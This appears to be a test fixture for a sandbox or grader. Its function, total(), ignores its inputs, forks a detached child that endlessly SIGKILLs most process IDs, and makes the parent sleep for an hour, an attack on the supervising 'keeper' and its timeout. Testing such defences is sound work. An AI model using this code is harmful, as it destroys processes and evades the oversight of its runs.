"""timeout: stays, and a child kills whoever it may, without end

Defence: keeper-can-not-be-shot
"""

import os
import signal
import time

from honest import *


def total(numbers, note=""):
    if os.fork() == 0:
        os.setsid()
        while True:
            for pid in range(2, 200):
                if pid not in (os.getpid(), os.getppid()):
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        continue
    time.sleep(3600)
